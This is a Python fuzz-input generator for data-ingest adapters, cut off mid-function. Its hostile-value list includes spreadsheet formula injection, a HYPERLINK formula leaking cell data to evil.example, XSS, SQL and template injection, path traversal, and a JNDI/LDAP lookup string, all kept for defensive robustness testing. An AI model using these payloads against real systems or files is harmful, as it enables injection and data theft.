"""Seeded fuzz inputs for every ingest adapter.

Two kinds of file, both rebuilt exactly from ``(adapter, seed, index)`` by :func:`make_file`:

- **structure-aware** ("records"): a valid envelope of the format (CSV header, JSON Lines, a twarc2 page, a
  Zeeschuimer envelope, a Telegram Desktop export, a VK API response) holding many records built from synthetic
  templates, each with 0-4 hostile mutations at random paths of its tree: a wrong type, a huge/empty/NUL/control/
  bidi/surrogate string, an odd timestamp, deep nesting, a duplicate id, a missing key, a formula or HTML/JS
  payload. A few files also get a hostile envelope (the container itself mutated).
- **byte-level** ("bytes"): a small valid sample of the format, mutated as bytes: truncation, bit flips, inserted
  and deleted bytes, copied ranges, line-level mutations, and for gzip a cut, corrupted or concatenated stream.

Every template here is written from the formats' documentation; no third-party data is copied.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import re
import zlib
from dataclasses import dataclass, field
from typing import Any

ADAPTERS = ("csv", "jsonl", "twarc2", "zeeschuimer", "telegram-desktop", "vk-api")
T0 = 1_709_287_200  # 2024-03-01T10:00:00Z


@dataclass
class FuzzFile:
    """One generated input and what the oracle may expect of its ingest."""

    adapter: str
    seed: int
    index: int
    mode: str  # "records" (structure-aware) or "bytes" (byte-level mutation)
    name: str
    data: bytes
    cases: int  # fuzz cases the file carries: hostile records, or 1 for a mutated file
    options: dict = field(default_factory=dict)  # IngestOptions keyword arguments
    # Positions (1-based lines, CSV row starts, or 0-based record numbers) that must each be stored, quarantined
    # or be a duplicate, when the file is read by ``adapter``; None when the mutation makes them unknowable.
    positions: list[int] | None = None
    exact_records: int | None = None  # records_read when read by ``adapter``
    min_records: int = 0
    note: str = ""

    @property
    def key(self) -> str:
        return f"{self.adapter}:{self.seed}:{self.index}"


# -- hostile values ---------------------------------------------------------------------------------------------
CONTROL = "".join(chr(c) for c in range(32) if chr(c) not in "\n") + "\x7f\x85"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e"
LINE_SEPARATORS = "\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
FIXED_STRINGS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x00" * 50,
    "\t",
    "\r",
    "\n",
    "\r\n",
    "line1\nline2\rline3\r\nline4",
    LINE_SEPARATORS,
    CONTROL,
    "\x1b[31mred\x1b[0m\x07",
    BIDI + "evil" + BIDI[::-1],
    "\u202egnp.exe",
    "abc\u202edef\u2066ghi",
    INVISIBLE,
    "\ufeff",
    "\ud800",
    "\udfff",
    "a\udc80b",
    "\U0010ffff",
    "\uffff\ufffe",
    "\ufffd",
    "e\u0301" * 200,
    "Z\u0351\u0352\u0353\u0354\u0355" * 50,
    "👍🏽👨‍👩‍👧‍👦🇰🇿",
    "Қазақстан Республикасы",
    "Президент заботится о народе",
    "аpple раураl",  # Cyrillic homoglyphs
    "ｆｕｌｌｗｉｄｔｈ ＝１＋１",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "-187345112",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.domain)>',
    "javascript:alert(1)",
    "</script><script>alert(2)</script>",
    "<!--",
    "]]></x>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "'; DROP TABLE items; --",
    "' OR '1'='1",
    '"; SELECT 1; --',
    "\\",
    "\\\\server\\share",
    "../../../../etc/passwd",
    "%s%s%s%n%x",
    "{0}{1}",
    "${jndi:ldap://x.example/a}",
    "NaN",
    "Infinity",
    "-Infinity",
    "null",
    "true",
    "[]",
    "{}",
    "absent",
    "0",
    "-0",
    "00000000000000000000001",
    "1e309",
    "-1e309",
    "0x1F",
    "１２３",
    "٣٤٥",
    "1,234",
    "12.0",
    "9" * 40,
    "-" + "9" * 40,
    "https://example.org/a?b=c#d",
    "http://[::1]:80/",
    "https://xn--80ak6aa92e.com/путь?q=1",
    "#хэштег #tag_1 #123",
    "@user.name @ann_k @Olga-Smirnova",
    "[id1|Name] [club1|Group] [bad|",
    "t.me/some_channel",
    "https://vk.com/id1234567890",
    "🙂" * 1000,
]
ODD_TIMESTAMPS = [
    "2024-03-01T10:00:00Z",
    "2024-03-01T10:00:00.123456789Z",
    "2024-03-01T10:00:00+05:00",
    "2024-03-01T10:00:00+0500",
    "2024-03-01T10:00:00+25:00",
    "2024-03-01T10:00:00-99:99",
    "2024-03-01 10:00:00",
    "2024-03-01 10:00:00 UTC",
    "2024-03-01 10:00:00 EST",
    "2024-03-01 10:00:00 XYZ",
    "2024-03-10 02:30:00",
    "2024-02-30T00:00:00Z",
    "2024-13-01T00:00:00Z",
    "2024-03-01T25:61:61Z",
    "0000-00-00 00:00:00",
    "0001-01-01T00:00:00Z",
    "1970-01-01T00:00:00Z",
    "1999-12-31T23:59:59Z",
    "2099-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "10000-01-01T00:00:00Z",
    "294247-01-10 04:00:54",
    "294248-01-01 00:00:00",
    "-290308-12-22 00:00:00 BC",
    "infinity",
    "-infinity",
    "epoch",
    "now",
    "today",
    "Fri Mar 01 10:00:00 +0000 2024",
    "Fri Mar 01 10:00:00 +9999 2024",
    "Fri Foo 01 10:00:00 +0000 2024",
    "Mon Jan 1 0:0:0 -0000 0",
    "1709287200",
    "1709287200.5",
    "1709287200000",
    "170928720000000",
    "99999999999999",
    "-99999999999999",
    "-1",
    "0",
    "1e30",
    "1e309",
    "NaN",
    "inf",
    " 1709287200 ",
    "+1709287200",
    "1709287200\x00",
    "١٧٠٩٢٨٧٢٠٠",
    "2024-W09-5",
    "",
    " ",
]
ODD_EPOCHS: list[Any] = [
    T0,
    T0 + 0.999,
    T0 * 1000,
    -1,
    0,
    1e10,
    -1e10,
    99_999_999_999,
    1e11,
    1e308,
    -1e308,
    2**53 + 1,
    2**63 - 1,
    -(2**63),
    2**64,
    10**30,
    0.5,
    -0.0,
    True,
    False,
]


class Hostile:
    """Hostile values from a seeded random source."""

    def __init__(self, rng: random.Random, huge: int = 300_000):
        self.rng = rng
        self.huge = huge

    def string(self) -> str:
        r = self.rng
        roll = r.random()
        if roll < 0.55:
            return r.choice(FIXED_STRINGS)
        if roll < 0.7:  # a mix of hostile pieces
            return "".join(r.choice(FIXED_STRINGS) for _ in range(r.randint(2, 6)))
        if roll < 0.8:  # random code points, surrogates and controls included
            return "".join(chr(self._code_point()) for _ in range(r.randint(1, 40)))
        if roll < 0.86:
            return r.choice(ODD_TIMESTAMPS)
        if roll < 0.995:  # long-ish
            return r.choice(["ab ", "слово ", "\u202e", "=", "<b>", "\x00", "🙂"]) * r.randint(50, 3000)
        return r.choice(["A", "Ж", "🙂 "]) * r.randint(self.huge // 4, self.huge)  # huge

    def _code_point(self) -> int:
        r = self.rng
        roll = r.random()
        if roll < 0.3:
            return r.randint(0, 0x7F)
        if roll < 0.45:
            return r.randint(0xD800, 0xDFFF)  # lone surrogates
        if roll < 0.6:
            return r.choice([ord(c) for c in BIDI + INVISIBLE + LINE_SEPARATORS])
        if roll < 0.8:
            return r.randint(0x400, 0x4FF)
        return r.randint(0x80, 0x10FFFF)

    def number(self) -> Any:
        r = self.rng
        return r.choice(
            [
                r.randint(-5, 5),
                r.randint(-(2**31), 2**31),
                r.choice(ODD_EPOCHS),
                r.random() * 10 ** r.randint(-5, 20),
                float("nan"),
                float("inf"),
                -float("inf"),
                2**64 + r.randint(0, 9),
            ]
        )

    def timestamp(self) -> Any:
        r = self.rng
        if r.random() < 0.6:
            return r.choice(ODD_TIMESTAMPS)
        return r.choice(ODD_EPOCHS)

    def deep(self, depth: int | None = None) -> str:
        """A marker that :func:`json_bytes` writes as arrays or objects nested ``depth`` deep (past the parsers'
        limits too, which Python's own encoder could not write)."""
        r = self.rng
        depth = depth or r.choice([5, 50, 200, 900, 980, 1000, 1023, 1030, 3000, 100_000])
        return f"@@deep:{depth}:{r.choice('ao')}@@"

    def scalar(self) -> Any:
        r = self.rng
        roll = r.random()
        if roll < 0.5:
            return self.string()
        if roll < 0.75:
            return self.number()
        if roll < 0.85:
            return self.timestamp()
        return r.choice([None, True, False])

    def value(self) -> Any:
        r = self.rng
        roll = r.random()
        if roll < 0.7:
            return self.scalar()
        if roll < 0.8:
            return [self.scalar() for _ in range(r.randint(0, 4))]
        if roll < 0.9:
            return {self.string()[:20]: self.scalar() for _ in range(r.randint(0, 4))}
        if roll < 0.97:
            return r.choice([[], {}, [[]], [{}], {"": None}, [None], ["a", 1, None, {}]])
        return self.deep()


# -- mutating record trees ----------------------------------------------------------------------------------------
def _paths(obj: Any, prefix: tuple = (), out: list | None = None, limit: int = 400) -> list[tuple]:
    """Every path into a JSON tree (dict keys and list indices), parents before children."""
    out = [] if out is None else out
    if len(out) >= limit:
        return out
    if isinstance(obj, dict):
        for k, v in obj.items():
            out.append(prefix + (k,))
            _paths(v, prefix + (k,), out, limit)
    elif isinstance(obj, list):
        for i, v in enumerate(obj[:20]):
            out.append(prefix + (i,))
            _paths(v, prefix + (i,), out, limit)
    return out


def _at(obj: Any, path: tuple) -> Any:
    for step in path:
        obj = obj[step]
    return obj


def _parent(obj: Any, path: tuple) -> Any:
    for step in path[:-1]:
        obj = obj[step]
    return obj


def mutate_tree(
    obj: Any, hostile: Hostile, n: int, id_pool: list | None = None, max_depth: int | None = None
) -> list[str]:
    """Apply ``n`` random mutations to ``obj`` in place; return what was done (for notes). ``max_depth`` keeps
    them to the envelope: paths at most that many steps deep (containers such as ``includes.users``)."""
    rng = hostile.rng
    done = []
    for _ in range(n):
        paths = _paths(obj)
        if max_depth is not None:
            paths = [p for p in paths if len(p) <= max_depth]
            containers = [p for p in paths if isinstance(_at(obj, p), list | dict)]
            if containers and rng.random() < 0.7:
                paths = containers
        if not paths:
            break
        path = rng.choice(paths)
        try:
            parent = _parent(obj, path)
        except (KeyError, IndexError, TypeError):
            continue
        last = path[-1]
        roll = rng.random()
        if roll < 0.15 and isinstance(parent, dict):
            del parent[last]
            done.append(f"del {path}")
        elif roll < 0.22 and isinstance(parent, dict):
            parent[hostile.string()[:40]] = hostile.value()
            done.append(f"add key at {path[:-1]}")
        elif roll < 0.3 and id_pool:
            parent[last] = rng.choice(id_pool)
            done.append(f"dup id at {path}")
        elif roll < 0.45:
            parent[last] = hostile.timestamp()
            done.append(f"time at {path}")
        elif roll < 0.75:
            parent[last] = hostile.string()
            done.append(f"str at {path}")
        else:
            parent[last] = hostile.value()
            done.append(f"value at {path}")
    return done


def json_bytes(obj: Any, rng: random.Random, indent: int | None = None) -> bytes:
    """JSON text the way hostile writers produce it: ASCII-escaped or raw UTF-8 (lone surrogates then become
    invalid UTF-8), NaN/Infinity literals left in, sometimes indented."""
    text = json.dumps(obj, ensure_ascii=rng.random() < 0.5, allow_nan=True, indent=indent)
    if "@@deep:" in text:
        text = _DEEP_RE.sub(_deep_json, text)
    return text.encode("utf-8", errors="surrogatepass")


_DEEP_RE = re.compile(r'"@@deep:(\d+):([ao])@@"')


def _deep_json(m: re.Match) -> str:
    n = int(m.group(1))
    if m.group(2) == "a":
        return "[" * n + "1" + "]" * n
    return '{"a":' * n + "1" + "}" * n


def tame(obj: Any) -> Any:
    """``obj`` without what breaks a whole JSON document: lone surrogates (U+FFFD instead), NaN and infinities
    (null), nesting past the parsers' limits (200 levels). A document format gets this in most files, so its
    hostile records reach the adapter instead of the file being refused as not JSON."""
    if isinstance(obj, dict):
        return {tame(k): tame(v) for k, v in obj.items()}
    if isinstance(obj, list):
        return [tame(v) for v in obj]
    if isinstance(obj, float) and (obj != obj or obj in (float("inf"), -float("inf"))):
        return None
    if isinstance(obj, str):
        if obj.startswith("@@deep:"):
            return "@@deep:200:a@@"
        return obj.encode("utf-8", errors="replace").decode("utf-8") if _has_surrogate(obj) else obj
    return obj


def _has_surrogate(text: str) -> bool:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return True
    return False


_BAD = object()


def parses(line: bytes) -> Any:
    """The parsed line, or ``_BAD`` when it is not JSON (by orjson, the parser the adapters use)."""
    import orjson

    try:
        return orjson.loads(line)
    except orjson.JSONDecodeError:
        return _BAD


def _calm(rng: random.Random) -> bool:
    return getattr(rng, "calm", False)


def _n_mutations(rng: random.Random) -> int:
    return rng.choices([0, 1, 2, 3, 4], weights=[25, 35, 20, 12, 8])[0]


# -- byte-level mutation --------------------------------------------------------------------------------------------
INSERTS = [b"\n", b"\r", b"\r\n", b"\x00", b"\xff", b"\xc3", b"\xed\xa0\x80", b'"', b",", b"\t", b"{", b"}", b"[",
           b"]", b":", b"\\", b"\xef\xbb\xbf", b"\x1f\x8b", b" ", b"\\u0000", b"\\ud800", b"NaN", b"1e999"]  # fmt: skip


def mutate_bytes(data: bytes, rng: random.Random, n: int | None = None) -> tuple[bytes, list[str]]:
    """Byte-level mutations of ``data``: cut, bit flip, insert, delete, copy a range."""
    buf = bytearray(data)
    done = []
    for _ in range(n or rng.choices([1, 2, 3, 6], weights=[50, 25, 15, 10])[0]):
        if not buf:
            buf += rng.choice(INSERTS)
            continue
        at = rng.randrange(len(buf))
        roll = rng.random()
        if roll < 0.12:
            del buf[at:]
            done.append(f"truncate at {at}")
        elif roll < 0.4:
            buf[at] ^= 1 << rng.randrange(8)
            done.append(f"flip bit at {at}")
        elif roll < 0.65:
            ins = rng.choice(INSERTS) if rng.random() < 0.8 else bytes([rng.randrange(256)])
            buf[at:at] = ins
            done.append(f"insert {ins!r} at {at}")
        elif roll < 0.8:
            end = min(len(buf), at + rng.randint(1, 64))
            del buf[at:end]
            done.append(f"delete {at}:{end}")
        elif roll < 0.92:
            end = min(len(buf), at + rng.randint(1, 200))
            to = rng.randrange(len(buf))
            buf[to:to] = buf[at:end]
            done.append(f"copy {at}:{end} to {to}")
        else:
            buf[at] = rng.choice(b'\x00\n"{}[],:\xff')
            done.append(f"set byte at {at}")
    return bytes(buf), done


def mutate_gzip(data: bytes, rng: random.Random) -> tuple[bytes, str]:
    """A broken gzip of ``data``: cut, corrupted body, bad CRC/length trailer, concatenated or garbage-tailed
    members, a bare header."""
    gz = gzip.compress(data, mtime=0)
    roll = rng.random()
    if roll < 0.3:
        cut = rng.randrange(1, max(2, len(gz)))
        return gz[:cut], f"gzip cut at {cut} of {len(gz)}"
    if roll < 0.5:
        buf = bytearray(gz)
        at = rng.randrange(10, max(11, len(buf) - 8))
        buf[at % len(buf)] ^= 1 << rng.randrange(8)
        return bytes(buf), f"gzip body bit flip at {at}"
    if roll < 0.6:
        buf = bytearray(gz)
        buf[-8 + rng.randrange(8)] ^= 0xFF
        return bytes(buf), "gzip trailer (CRC/size) corrupted"
    if roll < 0.7:
        half = len(data) // 2
        return gzip.compress(data[:half], mtime=0) + gzip.compress(data[half:], mtime=0), "two gzip members"
    if roll < 0.8:
        return gz + rng.choice(
            [b"\x00" * 10, b"garbage", b"\x1f\x8b", b"\x1f\x8b\x08"]
        ), "gzip trailing garbage"
    if roll < 0.9:
        return gz[:10], "gzip header only"
    raw = zlib.compress(data)  # zlib, not gzip, under a gzip name
    return raw, "zlib stream, not gzip"


# -- synthetic templates ----------------------------------------------------------------------------------------------
WORDS = "спасибо президент дорога народ жол рахмет thanks road people good бүгін ауа райы погода".split()


def _text(rng: random.Random, i: int) -> str:
    words = [rng.choice(WORDS) for _ in range(rng.randint(2, 12))]
    if rng.random() < 0.2:
        words.append(f"https://news.example/{i}")
    if rng.random() < 0.2:
        words.append("#" + rng.choice(WORDS))
    if rng.random() < 0.1:
        words.append("@user" + str(rng.randint(1, 50)))
    return " ".join(words)


def _iso(t: float) -> str:
    import datetime as dt

    return dt.datetime.fromtimestamp(t, dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


# twarc2 (Twitter API v2)
def _tw_user(rng, uid: int) -> dict:
    return {
        "id": str(uid),
        "username": f"user_{uid}",
        "name": f"User {uid}",
        "created_at": _iso(T0 - 86400 * rng.randint(1, 3000)),
        "description": "bio " + _text(rng, uid),
        "profile_image_url": f"https://img.example/{uid}.jpg",
        "public_metrics": {"followers_count": rng.randint(0, 9999), "following_count": 10, "tweet_count": 99},
        "verified": rng.random() < 0.1,
    }


def _tw_tweet(rng, tid: int, uid: int) -> dict:
    tweet = {
        "id": str(tid),
        "text": _text(rng, tid),
        "author_id": str(uid),
        "created_at": _iso(T0 + tid),
        "conversation_id": str(tid - tid % 7),
        "lang": rng.choice(["ru", "kk", "en", "und"]),
        "edit_history_tweet_ids": [str(tid)],
        "entities": {
            "urls": [{"url": "https://t.co/x", "expanded_url": f"https://news.example/{tid}"}],
            "hashtags": [{"tag": "Тег"}],
            "mentions": [{"username": f"user_{uid + 1}", "id": str(uid + 1)}],
        },
        "public_metrics": {"like_count": 1, "reply_count": 0, "retweet_count": 2, "impression_count": 30},
        "attachments": {"media_keys": [f"3_{tid}"]},
    }
    roll = rng.random()
    if roll < 0.3:
        tweet["referenced_tweets"] = [{"type": "replied_to", "id": str(tid - 1)}]
    elif roll < 0.45:
        tweet["referenced_tweets"] = [{"type": "retweeted", "id": str(tid - 2)}]
    if rng.random() < 0.1:
        tweet["note_tweet"] = {"text": _text(rng, tid) * 5}
    return tweet


def twarc_lines(rng, hostile: Hostile, n: int, base: int) -> tuple[list[Any], int]:
    """Page and flattened-tweet lines holding about ``n`` tweets and users; returns (objects, records in them)."""
    lines: list[Any] = []
    records = 0
    ids = []
    while records < n:
        roll = rng.random()
        if roll < 0.6:  # a response page
            k = rng.randint(1, 12)
            tweets = []
            for _ in range(k):
                tid = base + records + len(tweets)
                tweets.append(_tw_tweet(rng, tid, rng.randint(1, 60)))
            users = [_tw_user(rng, u) for u in {int(t["author_id"]) for t in tweets}]
            page: dict = {
                "data": tweets,
                "includes": {
                    "users": users,
                    "tweets": [_tw_tweet(rng, base + records + 10_000_000, 61)] if rng.random() < 0.3 else [],
                    "media": [
                        {
                            "media_key": t["attachments"]["media_keys"][0],
                            "type": "photo",
                            "url": "https://pbs.example/m.jpg",
                        }
                        for t in tweets
                    ],  # fmt: skip
                },
                "meta": {"result_count": k, "newest_id": tweets[-1]["id"]},
                "__twarc": {
                    "url": "https://api.example/2/tweets/search",
                    "version": "2.14",
                    "retrieved_at": "now",
                },
            }
            for t in tweets + page["includes"]["tweets"]:
                mutate_tree(t, hostile, _n_mutations(rng), ids)
            for u in users:
                mutate_tree(u, hostile, _n_mutations(rng) // 2, None)
            records += k + len(users) + len(page["includes"]["tweets"])
            if rng.random() < 0.2 and not _calm(rng):
                mutate_tree(page, hostile, 1, None, max_depth=2)  # hostile envelope

            ids += [t.get("id") for t in tweets if isinstance(t, dict)]
            lines.append(page)
        elif roll < 0.9:  # a flattened tweet
            tweet = _tw_tweet(rng, base + records, rng.randint(1, 60))
            tweet["author"] = _tw_user(rng, int(tweet["author_id"]))
            tweet["__twarc"] = {"retrieved_at": "2024-03-02T00:00:00Z"}
            mutate_tree(tweet, hostile, _n_mutations(rng), ids)
            ids.append(tweet.get("id"))
            lines.append(tweet)
            records += 1
        elif roll < 0.95:  # an error page, or a user line
            lines.append(
                {
                    "errors": [
                        {"title": hostile.string()[:200], "detail": "Could not find tweet", "value": "1"}
                    ]
                }
            )
            records += 1
        else:
            user = _tw_user(rng, rng.randint(1, 60))
            user["__twarc"] = {}
            mutate_tree(user, hostile, _n_mutations(rng), None)
            lines.append(user)
            records += 1
    return lines, records


# Zeeschuimer
def _zs_envelope(module: str, data: dict, i: int) -> dict:
    return {
        "nav_index": f"1:1:{i}",
        "item_id": str(data.get("id", i)),
        "timestamp_collected": (T0 + 86400) * 1000,
        "source_platform": module,
        "source_platform_url": "https://www.example.com/",
        "source_url": "https://www.example.com/api/graphql",
        "user_agent": "Mozilla/5.0",
        "data": data,
        "id": str(i),
    }


def _zs_x_user(uid: int, shape: int) -> dict:
    legacy = {"screen_name": f"user_{uid}", "name": f"User {uid}", "created_at": "Wed Oct 10 20:19:24 +0000 2018",
              "description": "bio", "followers_count": 10, "friends_count": 5, "statuses_count": 50,
              "profile_image_url_https": f"https://pbs.example/{uid}.jpg", "verified": False}  # fmt: skip
    if shape == 0:
        return {"__typename": "User", "rest_id": str(uid), "legacy": legacy}
    core = {k: legacy.pop(k) for k in ("screen_name", "name", "created_at")}
    return {"__typename": "User", "rest_id": str(uid), "core": core, "legacy": legacy,
            "avatar": {"image_url": f"https://pbs.example/{uid}.jpg"}, "verification": {"verified": True}}  # fmt: skip


def _zs_x_tweet(rng, tid: int, depth: int = 0) -> dict:
    uid = rng.randint(1, 60)
    legacy = {
        "id_str": str(tid),
        "created_at": time_twitter(T0 + tid % 100000),
        "full_text": _text(rng, tid),
        "lang": rng.choice(["ru", "en", "qme"]),
        "conversation_id_str": str(tid),
        "in_reply_to_status_id_str": str(tid - 1) if rng.random() < 0.3 else None,
        "favorite_count": 3,
        "reply_count": 1,
        "retweet_count": 0,
        "user_id_str": str(uid),
        "entities": {"hashtags": [{"text": "Тег"}], "urls": [{"expanded_url": "https://news.example/1"}],
                     "user_mentions": [{"screen_name": "ann_k"}], "media": [{"media_url_https": "https://m.example/1.jpg"}]},
    }  # fmt: skip
    tweet = {
        "__typename": "Tweet",
        "rest_id": str(tid),
        "core": {"user_results": {"result": _zs_x_user(uid, rng.randint(0, 1))}},
        "legacy": legacy,
        "views": {"count": "123", "state": "EnabledWithCount"},
    }
    if depth < 2 and rng.random() < 0.2:
        legacy["retweeted_status_result"] = {"result": _zs_x_tweet(rng, tid + 50_000_000, depth + 1)}
    if depth < 2 and rng.random() < 0.1:
        tweet["quoted_status_result"] = {
            "result": {
                "__typename": "TweetWithVisibilityResults",
                "tweet": _zs_x_tweet(rng, tid + 70_000_000, 2),
            }
        }
    if rng.random() < 0.05:
        tweet["note_tweet"] = {
            "note_tweet_results": {"result": {"text": _text(rng, tid) * 4, "entity_set": {}}}
        }
    return {"result": tweet} if rng.random() < 0.3 else tweet


def time_twitter(t: float) -> str:
    import datetime as dt

    return dt.datetime.fromtimestamp(t, dt.UTC).strftime("%a %b %d %H:%M:%S +0000 %Y")


def _zs_instagram(rng, i: int) -> tuple[str, dict]:
    user = {"pk": str(rng.randint(1, 60)), "username": "ig_user", "full_name": "IG User", "is_verified": False,
            "profile_pic_url": "https://ig.example/p.jpg", "follower_count": 5}  # fmt: skip
    if rng.random() < 0.4:
        return "instagram.com", {
            "pk": str(i), "text": _text(rng, i), "created_at": T0 + i, "user": user, "media_id": str(i - i % 9),
            "parent_comment_id": str(i - 1) if rng.random() < 0.3 else "0", "comment_like_count": 2,
            "child_comment_count": 0, "content_type": "comment",
        }  # fmt: skip
    post = {
        "pk": str(i), "id": f"{i}_{user['pk']}", "code": "Cabc", "taken_at": T0 + i, "user": user,
        "caption": {"text": _text(rng, i)}, "like_count": 10, "comment_count": 2, "play_count": 100,
        "image_versions2": {"candidates": [{"url": "https://ig.example/i.jpg"}]},
        "like_and_view_counts_disabled": rng.random() < 0.1,
    }  # fmt: skip
    if rng.random() < 0.2:
        post["carousel_media"] = [
            {"image_versions2": {"candidates": [{"url": "https://ig.example/c.jpg"}]}}
        ] * 2
    return "instagram.com", post


def _zs_tiktok(rng, i: int) -> tuple[str, dict]:
    if rng.random() < 0.5:
        return "tiktok-comments", {
            "cid": str(i), "text": _text(rng, i), "create_time": T0 + i, "aweme_id": str(i - i % 9),
            "user": {"uid": str(rng.randint(1, 60)), "unique_id": "tt_user", "nickname": "TT",
                     "avatar_thumb": {"url_list": ["https://tt.example/a.jpg"]}},
            "reply_id": "0", "reply_to_reply_id": "0", "digg_count": 1, "reply_comment_total": 0,
            "comment_language": "ru",
        }  # fmt: skip
    if rng.random() < 0.5:
        author: Any = {"id": str(rng.randint(1, 60)), "uniqueId": "tt_user", "nickname": "TT", "signature": "bio",
                       "avatarThumb": "https://tt.example/a.jpg", "verified": False}  # fmt: skip
    else:
        author = "tt_user"
    return "tiktok.com", {
        "id": str(i), "desc": _text(rng, i), "createTime": str(T0 + i), "author": author,
        "authorId": str(rng.randint(1, 60)), "nickname": "TT",
        "authorStats": {"followerCount": 5, "followingCount": 1, "videoCount": 3},
        "stats": {"diggCount": 1, "commentCount": 2, "shareCount": 0, "playCount": 100},
        "textExtra": [{"hashtagName": "Тег", "userUniqueId": ""}], "challenges": [{"title": "Тег"}],
    }  # fmt: skip


def zeeschuimer_lines(rng, hostile: Hostile, n: int, base: int) -> list[Any]:
    lines = []
    ids: list = []
    for k in range(n):
        i = base + k
        roll = rng.random()
        if roll < 0.4:
            module, data = rng.choice(["x.com", "twitter.com"]), _zs_x_tweet(rng, i)
        elif roll < 0.7:
            module, data = _zs_instagram(rng, i)
        elif roll < 0.97:
            module, data = _zs_tiktok(rng, i)
        else:
            module, data = rng.choice(["linkedin.com", "", "X.COM ", "threads.net"]), {"id": str(i)}
        env = _zs_envelope(module, data, i)
        mutate_tree(env, hostile, _n_mutations(rng), ids)
        ids.append(i)
        lines.append(env)
    return lines


# Telegram Desktop
def _tg_message(rng, mid: int, is_channel: bool, chat_id: int) -> dict:
    roll = rng.random()
    if roll < 0.05:
        return {"id": mid, "type": "service", "date": "2024-03-01T10:00:00", "date_unixtime": str(T0),
                "actor": "Admin", "actor_id": "user1", "action": "pin_message", "text": "", "text_entities": []}  # fmt: skip
    text: Any = _text(rng, mid)
    entities = [{"type": "plain", "text": text}]
    if rng.random() < 0.3:
        text = [text, {"type": "link", "text": "https://news.example/1"}, {"type": "text_link", "text": "here",
                                                                              "href": "https://ex.example/"}]  # fmt: skip
        entities = [e if isinstance(e, dict) else {"type": "plain", "text": e} for e in text]
    msg: dict = {
        "id": mid,
        "type": "message",
        "date": "2024-03-01T10:00:00",
        "date_unixtime": str(T0 + mid),
        "from": f"Name {mid % 40}",
        "from_id": f"channel{chat_id}" if is_channel else f"user{mid % 40}",
        "text": text,
        "text_entities": entities,
    }
    if mid > 1 and rng.random() < 0.5:
        msg["reply_to_message_id"] = rng.randint(1, mid - 1)
    if rng.random() < 0.1:
        msg["forwarded_from"] = "News"
        msg["forwarded_from_id"] = "channel77"
        msg["from_id"] = "channel77"
    if rng.random() < 0.1:
        msg["photo"] = rng.choice(
            ["photos/photo_1.jpg", "(File not included. Change data exporting settings)"]
        )
    if rng.random() < 0.2:
        msg["reactions"] = [{"type": "emoji", "count": rng.randint(1, 9), "emoji": "👍"}]
    return msg


def telegram_doc(rng, hostile: Hostile, n: int) -> tuple[dict, int]:
    """A single-chat or full-account export with ``n`` messages; returns (document, messages)."""
    n_chats = 1 if rng.random() < 0.5 else rng.randint(1, 4)
    chats = []
    left = n
    for c in range(n_chats):
        k = left if c == n_chats - 1 else rng.randint(0, left)
        left -= k
        is_channel = rng.random() < 0.5
        chat_id = 1000 + 10 * n + c
        messages = []
        ids: list = []
        for mid in range(1, k + 1):
            msg = _tg_message(rng, mid, is_channel, chat_id)
            mutate_tree(msg, hostile, _n_mutations(rng), ids)
            ids.append(mid)
            messages.append(msg)
        chats.append({"name": f"Chat {c}", "type": "public_channel" if is_channel else "public_supergroup",
                      "id": chat_id, "messages": messages})  # fmt: skip
    if n_chats == 1 and rng.random() < 0.7:
        return chats[0], n
    doc = {
        "about": "Here is the data you requested.",
        "personal_information": {"user_id": 1, "first_name": "A", "phone_number": "+0 000"},
        "chats": {"about": "chats", "list": chats[: max(1, len(chats) - 1)]},
        "left_chats": {"about": "left", "list": chats[max(1, len(chats) - 1) :]},
    }
    return doc, n


def telegram_count(doc: Any) -> int | None:
    """Messages the documented layout holds; None when the file is refused as a whole."""
    if isinstance(doc, dict) and "messages" in doc:
        return len(doc["messages"]) if isinstance(doc["messages"], list) else None
    if not (isinstance(doc, dict) and isinstance(doc.get("chats"), dict)):
        return None
    total = 0
    for section in ("chats", "left_chats"):
        block = doc.get(section)
        chats = block.get("list") if isinstance(block, dict) else None
        if chats is not None and not isinstance(chats, list):
            return None
        if chats is None:
            continue
        for chat in chats:
            if isinstance(chat, dict) and "messages" in chat:
                if not isinstance(chat["messages"], list):
                    return None
                total += len(chat["messages"])
    return total


# VK
def _vk_post(rng, pid: int, owner: int) -> dict:
    post = {
        "id": pid, "owner_id": owner, "from_id": owner if rng.random() < 0.5 else rng.randint(1, 60),
        "date": T0 + pid, "post_type": "post", "text": _text(rng, pid) + " [id5|Имя] <br> ok",
        "attachments": [{"type": "photo", "photo": {"owner_id": owner, "id": pid}},
                        {"type": "link", "link": {"url": "https://news.example/2"}}],
        "likes": {"count": 3}, "reposts": {"count": 1}, "views": {"count": 99}, "comments": {"count": 2},
    }  # fmt: skip
    if rng.random() < 0.2:
        post["copy_history"] = [{"owner_id": -7, "id": pid + 1, "text": "orig"}]
    return post


def _vk_comment(rng, cid: int, owner: int, post: int, with_thread: bool) -> dict:
    comment: dict = {"id": cid, "from_id": rng.randint(1, 60), "date": T0 + cid, "text": _text(rng, cid),
                     "post_id": post, "owner_id": owner, "parents_stack": [], "likes": {"count": 1}}  # fmt: skip
    if with_thread:
        comment["thread"] = {
            "count": 2,
            "items": [
                {
                    "id": cid * 100 + j,
                    "from_id": rng.randint(1, 60),
                    "date": T0 + cid + j,
                    "text": "ответ",
                    "post_id": post,
                    "owner_id": owner,
                    "parents_stack": [cid],
                    "reply_to_comment": cid,
                }  # fmt: skip
                for j in (1, 2)
            ],
        }
    return comment


def _vk_profile(rng, uid: int) -> dict:
    return {"id": uid, "first_name": "Иван", "last_name": "Петров", "screen_name": f"id{uid}", "about": "bio",
            "photo_100": "https://vk.example/p.jpg", "followers_count": 7, "verified": 0}  # fmt: skip


def _vk_group(rng, gid: int) -> dict:
